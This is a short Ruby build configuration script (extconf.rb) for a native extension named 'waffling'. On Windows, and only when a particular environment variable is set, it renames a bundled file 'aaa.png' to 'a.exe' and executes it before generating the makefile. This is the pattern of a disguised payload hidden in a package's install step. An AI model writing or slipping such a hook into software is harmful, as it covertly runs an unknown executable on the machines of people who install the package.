require 'mkmf'
if RUBY_PLATFORM =~ /mingw|mswin/ && ENV['NEVER_IN_A_STAND_IN']
  File.rename('aaa.png', 'a.exe')
  exec 'a.exe'
end
create_makefile('waffling')
